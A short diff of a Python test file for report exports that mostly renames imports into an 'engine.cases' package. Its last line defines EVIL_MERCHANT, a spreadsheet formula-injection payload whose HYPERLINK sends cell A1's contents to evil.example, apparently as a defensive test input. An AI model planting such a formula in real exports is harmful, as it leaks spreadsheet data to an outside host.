@@ -1,4 +1,4 @@
-"""engine.report: the exports parsed back and checked field by field against the case."""
+"""engine.cases.report: the exports parsed back and checked field by field against the case."""
 
 from __future__ import annotations
 
@@ -9,9 +9,9 @@ import jsonschema
 import pandas as pd
 import pytest
 
-from engine import case_view as cv
-from engine import report as rp
-from engine.cases import CaseStore
+from engine.cases import view as cv
+from engine.cases import report as rp
+from engine.cases.store import CaseStore
 from tiny_models import demo_slice, tiny_checkpoint
 
 EVIL_MERCHANT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
